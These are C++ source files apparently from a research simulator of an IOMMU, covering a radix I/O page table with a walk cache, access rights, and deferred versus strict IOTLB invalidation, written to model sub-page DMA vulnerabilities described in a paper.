  for (int level = kLevels - 1; level >= 1; --level) {
    const uint64_t index = IndexAt(iova, level);
    if (!node->children[index]) {
      return NotFound("IOVA page not mapped");
    }
    node = node->children[index].get();
  }
  const uint64_t index = IndexAt(iova, 0);
  if (!node->entries[index].has_value()) {
    return NotFound("IOVA page not mapped");
  }
  PteEntry entry = *node->entries[index];
  node->entries[index].reset();
  --mapped_pages_;
  return entry;
}

std::optional<PteEntry> IoPageTable::Lookup(Iova iova, int* walk_levels) const {
  int levels = 0;
  if (!root_) {
    if (walk_levels != nullptr) {
      *walk_levels = levels;
    }
    return std::nullopt;
  }
  const Node* node = root_.get();
  for (int level = kLevels - 1; level >= 1; --level) {
    ++levels;
    const uint64_t index = IndexAt(iova, level);
    if (!node->children[index]) {
      if (walk_levels != nullptr) {
        *walk_levels = levels;
      }
      return std::nullopt;
    }
    node = node->children[index].get();
  }
  ++levels;
  if (walk_levels != nullptr) {
    *walk_levels = levels;
  }
  return node->entries[IndexAt(iova, 0)];
}

std::vector<Iova> IoPageTable::FindIovasForPfn(Pfn pfn) const {
  std::vector<Iova> out;
  if (root_) {
    Collect(*root_, kLevels - 1, 0, pfn, out);
  }
  return out;
}

void IoPageTable::Collect(const Node& node, int level, uint64_t prefix, Pfn pfn,
                          std::vector<Iova>& out) const {
  if (level == 0) {
    for (uint64_t i = 0; i < kEntriesPerNode; ++i) {
      if (node.entries[i].has_value() && node.entries[i]->pfn == pfn) {
        out.push_back(Iova{(prefix | i) << kPageShift});
      }
    }
    return;
  }
  for (uint64_t i = 0; i < kEntriesPerNode; ++i) {
    if (node.children[i]) {
      Collect(*node.children[i], level - 1, (prefix | i) << kBitsPerLevel, pfn, out);
    }
  }
}

}  // namespace spv::iommu
