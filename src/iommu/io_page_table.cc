#include "iommu/io_page_table.h"

#include <mutex>

namespace spv::iommu {

void IoPageTable::set_telemetry(telemetry::Hub* hub) {
  hub_ = hub;
  if (hub_ == nullptr) {
    c_hits_ = c_misses_ = nullptr;
    return;
  }
  c_hits_ = &hub_->counter("iommu.walk_cache.hits");
  c_misses_ = &hub_->counter("iommu.walk_cache.misses");
}

Status IoPageTable::Map(Iova iova, Pfn pfn, AccessRights rights) {
  if (rights == AccessRights::kNone) {
    return InvalidArgument("mapping with no access rights");
  }
  std::lock_guard<MaybeMutex> guard(mu_);
  if (!root_) {
    root_ = std::make_unique<Node>();
  }
  Node* node = root_.get();
  for (int level = kLevels - 1; level >= 1; --level) {
    const uint64_t index = IndexAt(iova, level);
    if (!node->children[index]) {
      node->children[index] = std::make_unique<Node>();
    }
    node = node->children[index].get();
  }
  const uint64_t index = IndexAt(iova, 0);
  if (node->entries[index].has_value()) {
    return AlreadyExists("IOVA page already mapped");
  }
  node->entries[index] = PteEntry{pfn, rights};
  ++mapped_pages_;
  return OkStatus();
}

Result<PteEntry> IoPageTable::Unmap(Iova iova) {
  std::lock_guard<MaybeMutex> guard(mu_);
  if (!root_) {
    return NotFound("IOVA page not mapped");
  }
  Node* node = root_.get();
  for (int level = kLevels - 1; level >= 1; --level) {
    const uint64_t index = IndexAt(iova, level);
    if (!node->children[index]) {
      return NotFound("IOVA page not mapped");
    }
    node = node->children[index].get();
  }
  const uint64_t index = IndexAt(iova, 0);
  if (!node->entries[index].has_value()) {
    return NotFound("IOVA page not mapped");
  }
  PteEntry entry = *node->entries[index];
  node->entries[index].reset();
  --mapped_pages_;
  if (walk_cache_enabled_) {
    const uint64_t region = RegionOf(iova);
    WalkCacheEntry& slot = walk_cache_[region % kWalkCacheSlots];
    if (slot.region == region) {
      slot = WalkCacheEntry{};
      ++walk_cache_stats_.invalidations;
    }
  }
  return entry;
}

const IoPageTable::Node* IoPageTable::WalkToLeaf(Iova iova, int* levels) const {
  *levels = 0;
  if (!root_) {
    return nullptr;
  }
  const Node* node = root_.get();
  for (int level = kLevels - 1; level >= 1; --level) {
    ++*levels;
    const uint64_t index = IndexAt(iova, level);
    if (!node->children[index]) {
      return nullptr;
    }
    node = node->children[index].get();
  }
  ++*levels;
  return node;
}

std::optional<PteEntry> IoPageTable::Lookup(Iova iova, int* walk_levels) const {
  std::lock_guard<MaybeMutex> guard(mu_);
  if (walk_cache_enabled_) {
    const uint64_t region = RegionOf(iova);
    const WalkCacheEntry& slot = walk_cache_[region % kWalkCacheSlots];
    if (slot.region == region) {
      ++walk_cache_stats_.hits;
      if (hub_ != nullptr && hub_->enabled()) {
        c_hits_->Add();
      }
      if (walk_levels != nullptr) {
        *walk_levels = 1;
      }
      return slot.leaf->entries[IndexAt(iova, 0)];
    }
    ++walk_cache_stats_.misses;
    if (hub_ != nullptr && hub_->enabled()) {
      c_misses_->Add();
    }
  }
  int levels = 0;
  const Node* leaf = WalkToLeaf(iova, &levels);
  if (walk_levels != nullptr) {
    *walk_levels = levels;
  }
  if (leaf == nullptr) {
    return std::nullopt;
  }
  if (walk_cache_enabled_) {
    const uint64_t region = RegionOf(iova);
    walk_cache_[region % kWalkCacheSlots] = WalkCacheEntry{region, leaf};
  }
  return leaf->entries[IndexAt(iova, 0)];
}

std::optional<PteEntry> IoPageTable::PeekTranslation(Iova iova) const {
  std::lock_guard<MaybeMutex> guard(mu_);
  int levels = 0;
  const Node* leaf = WalkToLeaf(iova, &levels);
  if (leaf == nullptr) {
    return std::nullopt;
  }
  return leaf->entries[IndexAt(iova, 0)];
}

void IoPageTable::InvalidateWalkCache() {
  if (!walk_cache_enabled_) {
    return;
  }
  std::lock_guard<MaybeMutex> guard(mu_);
  for (WalkCacheEntry& slot : walk_cache_) {
    if (slot.leaf != nullptr) {
      ++walk_cache_stats_.invalidations;
    }
    slot = WalkCacheEntry{};
  }
}

std::vector<Iova> IoPageTable::FindIovasForPfn(Pfn pfn) const {
  std::lock_guard<MaybeMutex> guard(mu_);
  std::vector<Iova> out;
  if (root_) {
    Collect(*root_, kLevels - 1, 0, pfn, out);
  }
  return out;
}

std::vector<std::pair<Iova, PteEntry>> IoPageTable::AllMappings() const {
  std::lock_guard<MaybeMutex> guard(mu_);
  std::vector<std::pair<Iova, PteEntry>> out;
  if (!root_) {
    return out;
  }
  // Depth-first over present children yields ascending IOVA order.
  struct Frame {
    const Node* node;
    int level;
    uint64_t prefix;
  };
  std::vector<Frame> stack{{root_.get(), kLevels - 1, 0}};
  while (!stack.empty()) {
    const Frame frame = stack.back();
    stack.pop_back();
    if (frame.level == 0) {
      for (uint64_t i = 0; i < kEntriesPerNode; ++i) {
        if (frame.node->entries[i].has_value()) {
          out.emplace_back(Iova{(frame.prefix | i) << kPageShift}, *frame.node->entries[i]);
        }
      }
      continue;
    }
    // Push in reverse so the lowest child is processed first.
    for (uint64_t i = kEntriesPerNode; i > 0; --i) {
      const uint64_t index = i - 1;
      if (frame.node->children[index]) {
        stack.push_back(Frame{frame.node->children[index].get(), frame.level - 1,
                              (frame.prefix | index) << kBitsPerLevel});
      }
    }
  }
  return out;
}

void IoPageTable::Collect(const Node& node, int level, uint64_t prefix, Pfn pfn,
                          std::vector<Iova>& out) const {
  if (level == 0) {
    for (uint64_t i = 0; i < kEntriesPerNode; ++i) {
      if (node.entries[i].has_value() && node.entries[i]->pfn == pfn) {
        out.push_back(Iova{(prefix | i) << kPageShift});
      }
    }
    return;
  }
  for (uint64_t i = 0; i < kEntriesPerNode; ++i) {
    if (node.children[i]) {
      Collect(*node.children[i], level - 1, (prefix | i) << kBitsPerLevel, pfn, out);
    }
  }
}

}  // namespace spv::iommu
