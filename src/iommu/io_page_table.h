// Four-level I/O page table (VT-d second-level translation style).
//
// A genuine radix table rather than a flat map: the page-walk cost model and
// the "one PTE per 4 KiB page" granularity — the root cause of sub-page
// vulnerabilities — fall out of the structure itself.

#ifndef SPV_IOMMU_IO_PAGE_TABLE_H_
#define SPV_IOMMU_IO_PAGE_TABLE_H_

#include <array>
#include <cstdint>
#include <memory>
#include <mutex>
#include <optional>
#include <utility>
#include <vector>

#include "base/maybe_mutex.h"
#include "base/stat_counter.h"
#include "base/status.h"
#include "base/types.h"
#include "iommu/access_rights.h"
#include "telemetry/telemetry.h"

namespace spv::iommu {

struct PteEntry {
  Pfn pfn;
  AccessRights rights = AccessRights::kNone;
};

class IoPageTable {
 public:
  static constexpr int kLevels = 4;
  static constexpr int kBitsPerLevel = 9;
  static constexpr uint64_t kEntriesPerNode = uint64_t{1} << kBitsPerLevel;  // 512

  // Direct-mapped last-level walk cache: tags a 2 MiB region (one leaf node)
  // per slot, so repeated translations of hot regions touch one level.
  static constexpr size_t kWalkCacheSlots = 64;

  struct WalkCacheStats {
    StatCounter hits;
    StatCounter misses;
    StatCounter invalidations;
  };

  explicit IoPageTable(bool walk_cache_enabled = true)
      : walk_cache_enabled_(walk_cache_enabled) {}

  // Installs a translation for the 4 KiB page containing `iova`. Fails if a
  // translation is already present (the DMA layer never remaps silently).
  Status Map(Iova iova, Pfn pfn, AccessRights rights);

  // Removes the translation; returns the entry that was present. The walk
  // cache entry covering `iova` is dropped, like hardware invalidating its
  // intermediate-structure caches on IOTLB invalidation — a *stale
  // translation* can only ever come from the IOTLB, never from here.
  Result<PteEntry> Unmap(Iova iova);

  // Page walk. Returns nullopt when not-present. `walk_levels` (if given)
  // receives the number of levels touched, for cycle accounting; a walk-cache
  // hit reports a single level.
  std::optional<PteEntry> Lookup(Iova iova, int* walk_levels = nullptr) const;

  // Walk without side effects: no walk-cache fill, no stats. For
  // ground-truth analyses (Iommu::Peek), not the translation path.
  std::optional<PteEntry> PeekTranslation(Iova iova) const;

  // Drops every walk cache entry (global IOTLB flush side effect).
  void InvalidateWalkCache();

  uint64_t mapped_pages() const { return mapped_pages_; }
  const WalkCacheStats& walk_cache_stats() const { return walk_cache_stats_; }

  // Publishes walk-cache hit/miss counters to `hub` (nullptr detaches).
  void set_telemetry(telemetry::Hub* hub);

  // Engages the internal lock for ExecMode::kThreads. Even const Lookup
  // mutates (walk-cache fill), so every walk takes the lock once engaged;
  // sequential mode pays a branch. One-way, pre-concurrency.
  void EngageLock() { mu_.Engage(); }

  // All currently mapped IOVA pages translating to `pfn` (type (c) probe).
  std::vector<Iova> FindIovasForPfn(Pfn pfn) const;

  // Every (iova page, entry) pair currently mapped, in ascending IOVA order.
  // For audits (Machine::CheckInvariants), not the translation path.
  std::vector<std::pair<Iova, PteEntry>> AllMappings() const;

 private:
  struct Node {
    std::array<std::unique_ptr<Node>, kEntriesPerNode> children;  // levels 3..1
    std::array<std::optional<PteEntry>, kEntriesPerNode> entries;  // level 0 only
  };

  static uint64_t IndexAt(Iova iova, int level) {
    return (iova.value >> (kPageShift + kBitsPerLevel * level)) & (kEntriesPerNode - 1);
  }

  void Collect(const Node& node, int level, uint64_t prefix, Pfn pfn,
               std::vector<Iova>& out) const;

  // 2 MiB region number of `iova` (the span one leaf node covers).
  static uint64_t RegionOf(Iova iova) {
    return iova.value >> (kPageShift + kBitsPerLevel);
  }

  // Walks to the leaf node covering `iova` without touching the cache;
  // returns nullptr when an intermediate node is missing. `levels` counts the
  // nodes visited.
  const Node* WalkToLeaf(Iova iova, int* levels) const;

  struct WalkCacheEntry {
    uint64_t region = UINT64_MAX;
    const Node* leaf = nullptr;
  };

  std::unique_ptr<Node> root_;
  // Guards the radix tree and the walk cache when engaged (kThreads).
  mutable MaybeMutex mu_;
  StatCounter mapped_pages_;
  bool walk_cache_enabled_;
  // Leaf nodes are never destroyed while the table lives (Unmap only clears
  // entries), so a cached pointer can never dangle; invalidation models the
  // hardware behaviour rather than guarding memory safety.
  mutable std::array<WalkCacheEntry, kWalkCacheSlots> walk_cache_{};
  mutable WalkCacheStats walk_cache_stats_;
  telemetry::Hub* hub_ = nullptr;
  telemetry::Counter* c_hits_ = nullptr;
  telemetry::Counter* c_misses_ = nullptr;
};

}  // namespace spv::iommu

#endif  // SPV_IOMMU_IO_PAGE_TABLE_H_
