// Four-level I/O page table (VT-d second-level translation style).
//
// A genuine radix table rather than a flat map: the page-walk cost model and
// the "one PTE per 4 KiB page" granularity — the root cause of sub-page
// vulnerabilities — fall out of the structure itself.

#ifndef SPV_IOMMU_IO_PAGE_TABLE_H_
#define SPV_IOMMU_IO_PAGE_TABLE_H_

#include <array>
#include <cstdint>
#include <memory>
#include <optional>
#include <vector>

#include "base/status.h"
#include "base/types.h"
#include "iommu/access_rights.h"

namespace spv::iommu {

struct PteEntry {
  Pfn pfn;
  AccessRights rights = AccessRights::kNone;
};

class IoPageTable {
 public:
  static constexpr int kLevels = 4;
  static constexpr int kBitsPerLevel = 9;
  static constexpr uint64_t kEntriesPerNode = uint64_t{1} << kBitsPerLevel;  // 512

  IoPageTable() = default;

  // Installs a translation for the 4 KiB page containing `iova`. Fails if a
  // translation is already present (the DMA layer never remaps silently).
  Status Map(Iova iova, Pfn pfn, AccessRights rights);

  // Removes the translation; returns the entry that was present.
  Result<PteEntry> Unmap(Iova iova);

  // Page walk. Returns nullopt when not-present. `walk_levels` (if given)
  // receives the number of levels touched, for cycle accounting.
  std::optional<PteEntry> Lookup(Iova iova, int* walk_levels = nullptr) const;

  uint64_t mapped_pages() const { return mapped_pages_; }

  // All currently mapped IOVA pages translating to `pfn` (type (c) probe).
  std::vector<Iova> FindIovasForPfn(Pfn pfn) const;

 private:
  struct Node {
    std::array<std::unique_ptr<Node>, kEntriesPerNode> children;  // levels 3..1
    std::array<std::optional<PteEntry>, kEntriesPerNode> entries;  // level 0 only
  };

  static uint64_t IndexAt(Iova iova, int level) {
    return (iova.value >> (kPageShift + kBitsPerLevel * level)) & (kEntriesPerNode - 1);
  }

  void Collect(const Node& node, int level, uint64_t prefix, Pfn pfn,
               std::vector<Iova>& out) const;

  std::unique_ptr<Node> root_;
  uint64_t mapped_pages_ = 0;
};

}  // namespace spv::iommu

#endif  // SPV_IOMMU_IO_PAGE_TABLE_H_
