// IOMMU page access rights (§2.2).
//
// An IOVA mapping grants READ, WRITE, or BIDIRECTIONAL access. Note the
// asymmetry the paper calls out: WRITE does *not* imply READ — a device with
// WRITE access to a page cannot observe its contents, which is why attacks
// like Poisoned TX (§5.4) need a separate READ-mapped path to leak pointers.

#ifndef SPV_IOMMU_ACCESS_RIGHTS_H_
#define SPV_IOMMU_ACCESS_RIGHTS_H_

#include <cstdint>
#include <string>

namespace spv::iommu {

enum class AccessRights : uint8_t {
  kNone = 0,
  kRead = 1,
  kWrite = 2,
  kBidirectional = 3,  // kRead | kWrite
};

enum class AccessOp : uint8_t { kRead, kWrite };

constexpr AccessRights operator|(AccessRights a, AccessRights b) {
  return static_cast<AccessRights>(static_cast<uint8_t>(a) | static_cast<uint8_t>(b));
}

constexpr bool Permits(AccessRights rights, AccessOp op) {
  const uint8_t bits = static_cast<uint8_t>(rights);
  return op == AccessOp::kRead ? (bits & 1u) != 0 : (bits & 2u) != 0;
}

inline std::string AccessRightsName(AccessRights rights) {
  switch (rights) {
    case AccessRights::kNone:
      return "NONE";
    case AccessRights::kRead:
      return "READ";
    case AccessRights::kWrite:
      return "WRITE";
    case AccessRights::kBidirectional:
      return "READ, WRITE";
  }
  return "?";
}

inline std::string AccessOpName(AccessOp op) { return op == AccessOp::kRead ? "read" : "write"; }

}  // namespace spv::iommu

#endif  // SPV_IOMMU_ACCESS_RIGHTS_H_
