// The IOMMU: per-device I/O page tables + shared IOTLB + invalidation policy.
//
// This is the security boundary the whole paper is about. Two properties are
// modelled exactly:
//
//  1. Page granularity. A mapping covers a whole 4 KiB page, so mapping any
//     buffer exposes every byte that shares its page (sub-page vulnerability,
//     §3.2).
//  2. IOTLB (in)coherence. In *strict* mode each unmap invalidates the IOTLB
//     entry synchronously (≈2000 cycles, §5.2.1). In *deferred* mode — the
//     Linux default — unmaps only clear the PTE and queue the invalidation;
//     the queue is flushed when full or after a 10 ms deadline, leaving a
//     window in which a device can keep using the stale translation (Fig 6).

#ifndef SPV_IOMMU_IOMMU_H_
#define SPV_IOMMU_IOMMU_H_

#include <cstdint>
#include <deque>
#include <memory>
#include <span>
#include <string>
#include <unordered_map>
#include <unordered_set>
#include <vector>

#include "base/clock.h"
#include "base/exec.h"
#include "base/maybe_mutex.h"
#include "base/stat_counter.h"
#include "base/status.h"
#include "base/types.h"
#include "iommu/access_rights.h"
#include "iommu/fast_path.h"
#include "iommu/io_page_table.h"
#include "iommu/iotlb.h"
#include "iommu/iova_allocator.h"
#include "mem/phys_memory.h"
#include "trace/tracer.h"

namespace spv::forensics {
class FlightRecorder;
}  // namespace spv::forensics

namespace spv::fault {
class FaultEngine;
}  // namespace spv::fault

namespace spv::iommu {

enum class InvalidationMode { kStrict, kDeferred };

inline std::string InvalidationModeName(InvalidationMode mode) {
  return mode == InvalidationMode::kStrict ? "strict" : "deferred";
}

// What emptied the deferred flush queue (telemetry: the drain-reason mix
// distinguishes throughput-bound workloads from idle ones).
enum class FlushReason : uint8_t {
  kManual,    // explicit FlushNow() by the OS / a bench
  kCapacity,  // queue reached flush_queue_capacity
  kDeadline,  // the 10 ms timer fired
};

std::string_view FlushReasonName(FlushReason reason);

// Cycle cost model (§5.2.1 and [2], [29]).
inline constexpr uint64_t kIotlbInvalidationCycles = 2000;
inline constexpr uint64_t kCpuTlbInvalidationCycles = 100;  // for comparison benches
inline constexpr uint64_t kPageWalkCyclesPerLevel = 50;
inline constexpr uint64_t kIotlbHitCycles = 1;
inline constexpr uint64_t kMapPteCycles = 150;

struct IommuFault {
  DeviceId device;
  Iova iova;
  AccessOp op;
  uint64_t cycle;
  std::string reason;
};

class Iommu {
 public:
  struct Config {
    // enabled=false models the pre-IOMMU world (§2.1): DMA addresses are
    // physical addresses, no translation, no permission checks — the classic
    // FireWire/Inception memory-dump scenario.
    bool enabled = true;
    InvalidationMode mode = InvalidationMode::kDeferred;
    size_t iotlb_capacity = 256;
    size_t flush_queue_capacity = 256;
    uint64_t flush_interval_cycles = SimClock::MsToCycles(10);
    // Map/unmap fast-path data structures (rcache, hash index, walk cache).
    FastPathConfig fast_path = {};
  };

  // Relaxed-atomic counters (StatCounter) so concurrent sim CPUs can bump
  // them in ExecMode::kThreads; they read like plain integers everywhere.
  struct Stats {
    StatCounter maps;
    StatCounter unmaps;
    StatCounter flushes;                  // global flushes (deferred mode)
    StatCounter targeted_invalidations;   // per-page (strict mode)
    StatCounter invalidation_cycles;      // total cycles spent invalidating
    StatCounter device_accesses;
    StatCounter stale_iotlb_accesses;     // accesses served with no live PTE
    // Flush-queue drain reasons (sum == flushes).
    StatCounter flush_capacity_drains;
    StatCounter flush_deadline_drains;
    StatCounter flush_manual_drains;
    // Device quarantine (spv::recovery).
    StatCounter device_fences;            // FenceDevice transitions
    StatCounter device_detaches;          // DetachDevice completions
    StatCounter fenced_accesses;          // DMA attempts rejected by a fence
    StatCounter drained_device_entries;   // flush-queue entries drained per-device
  };

  Iommu(mem::PhysicalMemory& pm, SimClock& clock, Config config);

  Iommu(const Iommu&) = delete;
  Iommu& operator=(const Iommu&) = delete;

  // Prepares for ExecMode::kThreads: shards the deferred flush queue per CPU
  // (Linux's per-CPU iova flush queues) and engages every internal lock, here
  // and in the IOTLB / page tables / IOVA allocators of existing domains.
  // Must run at machine bring-up, before any worker thread issues traffic;
  // one-way. In the default sequential mode there is exactly one shard and
  // no lock is ever taken, preserving the legacy semantics bit-for-bit.
  void EngageThreadSafety(uint32_t num_cpus);

  // Routes IOMMU/IOTLB counters and events (flushes, faults, stale hits)
  // through `hub`; forwards to the embedded IOTLB. Pass nullptr to detach.
  void set_telemetry(telemetry::Hub* hub);

  // Optional fault hook (kIovaAlloc, kIoPageTableMap, kIotlbInvalidation):
  // nullptr detaches.
  void set_fault_engine(fault::FaultEngine* engine) { fault_ = engine; }

  // Optional causal span tracer (map/unmap/flush-drain spans): nullptr
  // detaches; a null or disabled tracer costs one branch per operation.
  void set_tracer(trace::Tracer* tracer) { tracer_ = tracer; }

  // Optional DMA flight recorder (spv::forensics): witnesses every
  // device-side access chunk, stale-IOTLB hit, translation fault and IOTLB
  // invalidation edge. nullptr (the default) costs one branch per site.
  void set_flight_recorder(forensics::FlightRecorder* recorder) {
    recorder_ = recorder;
  }

  // Attaches a device in its own translation domain (the secure default:
  // one I/O page table per requester id, like Windows Kernel DMA Protection).
  void AttachDevice(DeviceId device);

  // Attaches `device` to the domain of `domain_owner` — both devices then
  // share one I/O page table and IOVA space. This is how Linux groups
  // devices behind a non-isolating bridge, and exactly the §6 experimental
  // setup: "we created an IOVA page table that is shared between the
  // FireWire and the actual NIC", letting a programmable FireWire accessory
  // emulate a malicious NIC.
  Status AttachDeviceToDomainOf(DeviceId device, DeviceId domain_owner);

  bool IsAttached(DeviceId device) const;

  // ---- Quarantine / detach (spv::recovery) ---------------------------------

  // Fences `device`: its flush-queue entries are drained (parked IOVAs
  // reclaimed, stale IOTLB pages invalidated), every cached translation for
  // its domain is dropped (IOTLB + walk cache), and from here on device-side
  // DMA and new OS-side maps fail with StatusCode::kRevoked — the single
  // authoritative post-quarantine failure path. OS-side unmaps stay allowed
  // so teardown can proceed. Idempotent; NotFound for unattached devices.
  Status FenceDevice(DeviceId device);

  // Lifts the fence (supervised re-attach). Idempotent on unfenced devices.
  Status UnfenceDevice(DeviceId device);

  bool IsFenced(DeviceId device) const;

  // True when the device was fenced or detached and never restored: the
  // "revocation memory" that distinguishes the unified kRevoked answer from
  // the never-attached kInvalidArgument one.
  bool IsRevoked(DeviceId device) const;

  // Removes `device`'s entries from *every* CPU's deferred flush shard: their
  // IOTLB pages are invalidated first, then the parked IOVAs are reclaimed —
  // the order that prevents a recycled IOVA from translating through a
  // still-warm stale window. Quarantine relies on the every-shard sweep: a
  // device's deferred unmaps land on whichever CPU issued them. Returns the
  // number of queue entries drained.
  uint64_t DrainDeviceInvalidations(DeviceId device);

  // Permanently detaches `device`: fences it, drains its queue entries and
  // removes it from its translation domain. Live PTEs for a shared domain are
  // untouched (the surviving members own them). Idempotent: detaching an
  // already-detached device is OK; never-attached is NotFound.
  Status DetachDevice(DeviceId device);

  // True if the two devices translate through the same page table.
  bool SameDomain(DeviceId a, DeviceId b) const;

  // ---- OS side -------------------------------------------------------------

  // Maps one physical page; returns the IOVA of its page base.
  Result<Iova> MapPage(DeviceId device, Pfn pfn, AccessRights rights);

  // Maps `pfns` into one contiguous IOVA range (scatter/gather support).
  Result<Iova> MapRange(DeviceId device, std::span<const Pfn> pfns, AccessRights rights);

  Status UnmapPage(DeviceId device, Iova iova);
  Status UnmapRange(DeviceId device, Iova base, uint64_t pages);

  // Forces every deferred flush shard out now (the 10 ms timer firing, or an
  // admin `iommu=strict`-style flush).
  void FlushNow(FlushReason reason = FlushReason::kManual);

  // Trust-policy gate (spv::policy): while disabled, the device's domain
  // allocates and frees IOVAs through the slow path only — magazine caches
  // bypassed (IovaAllocator::set_cache_bypass), so an unearned device never
  // rides the PR-2 rcache. Per translation domain, like the allocator
  // itself. NotFound for unattached devices; enabled is the default.
  Status SetDeviceFastPath(DeviceId device, bool enabled);
  // False only while a policy has the device gated off the fast path.
  bool device_fast_path(DeviceId device) const;

  // The CPU the simulated kernel is currently executing on; IOVA magazine
  // allocs/frees and flush-shard selection use it. Ambient (thread-local,
  // like preemption context) rather than a parameter so device models need
  // no plumbing — and so each kThreads worker carries its own identity.
  void set_current_cpu(CpuId cpu) { SetCurrentCpu(cpu); }
  CpuId current_cpu() const { return CurrentCpu(); }

  // Models timer processing: call after advancing the clock to let an expired
  // deadline trigger the periodic flush. Checks only the calling CPU's shard
  // (each CPU services its own flush timer, as in Linux's per-CPU fq timers).
  void ProcessDeferredTimer();

  // ---- Device side -----------------------------------------------------------

  // DMA through the translation path. May cross page boundaries as long as
  // the whole IOVA range translates with sufficient rights.
  Status DeviceRead(DeviceId device, Iova iova, std::span<uint8_t> out);
  Status DeviceWrite(DeviceId device, Iova iova, std::span<const uint8_t> data);

  // ---- Introspection -----------------------------------------------------------

  InvalidationMode mode() const { return config_.mode; }
  const FastPathConfig& fast_path() const { return config_.fast_path; }
  const Stats& stats() const { return stats_; }
  // Quiescent-read introspection: valid while no worker thread is running.
  const std::vector<IommuFault>& faults() const { return faults_; }
  const Iotlb& iotlb() const { return iotlb_; }
  // Pending entries across all shards.
  uint64_t pending_invalidation_count() const;
  size_t flush_shard_count() const { return flush_shards_.size(); }
  // Pending entries in one CPU's shard (cross-CPU drain tests).
  uint64_t pending_invalidation_count(CpuId cpu) const;

  // Cross-CPU invariants, checked by Machine::CheckInvariants:
  //  * flush-shard liveness — every non-empty shard carries an armed
  //    deadline, and every pending range is still a live (parked) IOVA range
  //    of its domain;
  //  * magazine ownership — no IOVA range sits both in a magazine/depot and
  //    in the live set, and no range is cached twice.
  Status AuditCrossCpu() const;

  // Attached devices in ascending id order, and the translation-domain id a
  // device belongs to (0 when unattached). IOTLB entries are tagged by domain
  // id, so audits need this indirection to relate the two.
  std::vector<DeviceId> attached_devices() const;
  uint32_t domain_id(DeviceId device) const;

  // Snapshot of the deferred flush queue: IOVA ranges whose PTEs are gone but
  // whose IOTLB entries may still translate (the Fig 6 window).
  struct PendingRange {
    DeviceId device;
    Iova base;
    uint64_t pages;
  };
  std::vector<PendingRange> pending_invalidations() const;

  // Fast-path introspection for benches and tests (nullptr when the device
  // is not attached).
  const IovaAllocator* iova_allocator(DeviceId device) const;
  const IoPageTable* page_table(DeviceId device) const;

  // Live PTEs translating to `pfn` for this device (type (c) probe).
  std::vector<Iova> IovasForPfn(DeviceId device, Pfn pfn) const;

  // Translates without side effects (no IOTLB fill, no fault log); used by
  // ground-truth analyses, not by devices.
  std::optional<PteEntry> Peek(DeviceId device, Iova iova) const;

 private:
  // A translation domain: one page table + IOVA space, shared by all member
  // devices. IOTLB entries are tagged by domain id (as on VT-d), so domain
  // members also share cached translations.
  struct Domain {
    explicit Domain(const FastPathConfig& fast_path)
        : table(fast_path.walk_cache_enabled),
          iova_alloc(IovaAllocator::kDefaultWindowStart, IovaAllocator::kDefaultWindowEnd,
                     fast_path) {}
    uint32_t id = 0;
    IoPageTable table;
    IovaAllocator iova_alloc;
  };
  struct PendingInvalidation {
    DeviceId device;
    Iova base;
    uint64_t pages;
    // The CPU that issued the unmap. Mirrors Linux's per-CPU flush queues:
    // at drain time the parked IOVA returns to *this* CPU's magazines, so
    // deferred mode keeps rcache locality even when unmaps round-robin.
    CpuId cpu{0};
  };

  // One deferred flush queue shard. Sequential mode has exactly one (the
  // legacy global queue); kThreads mode has one per CPU, so unmap-heavy
  // workloads never serialize on a global invalidation queue. Each shard
  // carries its own deadline, armed when the first entry lands.
  struct FlushShard {
    mutable MaybeMutex mu;
    std::deque<PendingInvalidation> queue;
    uint64_t deadline = 0;  // valid when queue nonempty
  };

  // Snapshot of a device's attach/fence/revoke state, taken under one brief
  // shared lock. The shared_ptr keeps the domain alive (RCU-style) even if a
  // concurrent detach erases it from the map, so callers operate lock-free
  // on the domain afterwards.
  struct DeviceRef {
    std::shared_ptr<Domain> domain;  // null when not attached
    bool fenced = false;
    bool revoked = false;
  };
  DeviceRef Resolve(DeviceId device) const;

  size_t ShardIndex() const {
    return flush_shards_.size() <= 1 ? 0 : CurrentCpu().value % flush_shards_.size();
  }
  // Drains one shard: one global IOTLB invalidation amortizing the batch,
  // walk-cache drop, then the parked IOVAs return to their unmapping CPUs'
  // magazines. The legacy FlushNow body, scoped to a shard.
  void DrainShard(size_t shard_index, FlushReason reason);

  Status Access(DeviceId device, Iova iova, AccessOp op, std::span<uint8_t> read_out,
                std::span<const uint8_t> write_data);
  void Fault(DeviceId device, Iova iova, AccessOp op, std::string reason);
  void EnqueueInvalidation(DeviceId device, Iova base, uint64_t pages);

  Result<PteEntry> TranslateForDevice(DeviceId device, Domain& domain, Iova page_iova,
                                      AccessOp op);

  // Publishes a kDeviceFencedAccess event for a rejected fenced-device op.
  void NoteFencedAccess(DeviceId device, Iova iova, std::string_view what);

  mem::PhysicalMemory& pm_;
  SimClock& clock_;
  Config config_;
  Iotlb iotlb_;
  // Device/fence/revoke tables, guarded by state_mu_ (reads take a brief
  // shared lock and copy the domain shared_ptr out; never held across
  // component calls, so the lock order is always state_mu_ -> {shard, iotlb,
  // table, iova} with no cycles).
  mutable MaybeSharedMutex state_mu_;
  std::unordered_map<uint32_t, std::shared_ptr<Domain>> device_domain_;  // device -> domain
  std::unordered_set<uint32_t> fenced_;   // quarantined devices (still attached)
  std::unordered_set<uint32_t> revoked_;  // fenced or detached, not yet restored
  uint32_t next_domain_id_ = 1;
  bool threaded_ = false;
  std::vector<std::unique_ptr<FlushShard>> flush_shards_;
  Stats stats_;
  mutable MaybeMutex faults_mu_;
  std::vector<IommuFault> faults_;
  telemetry::Hub* hub_ = nullptr;
  fault::FaultEngine* fault_ = nullptr;
  trace::Tracer* tracer_ = nullptr;
  forensics::FlightRecorder* recorder_ = nullptr;
};

}  // namespace spv::iommu

#endif  // SPV_IOMMU_IOMMU_H_
