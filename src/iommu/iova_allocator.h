// Per-device IOVA space allocator.
//
// Mirrors Linux's behaviour of allocating IOVAs top-down from the end of the
// 32-bit DMA window, with freed ranges cached for reuse. Two different Map
// calls targeting the same PFN receive two different IOVAs — the substrate of
// the paper's type (c) "page mapped by multiple IOVA" vulnerability.

#ifndef SPV_IOMMU_IOVA_ALLOCATOR_H_
#define SPV_IOMMU_IOVA_ALLOCATOR_H_

#include <cstdint>
#include <map>
#include <vector>

#include "base/status.h"
#include "base/types.h"

namespace spv::iommu {

class IovaAllocator {
 public:
  // Default window: [1 MiB, 4 GiB) like a 32-bit DMA mask with the low
  // megabyte avoided.
  explicit IovaAllocator(uint64_t window_start = 1ull << 20,
                         uint64_t window_end = 1ull << 32);

  // Allocates `pages` contiguous IOVA pages; returns the base IOVA.
  Result<Iova> Alloc(uint64_t pages);

  // Releases a range previously returned by Alloc.
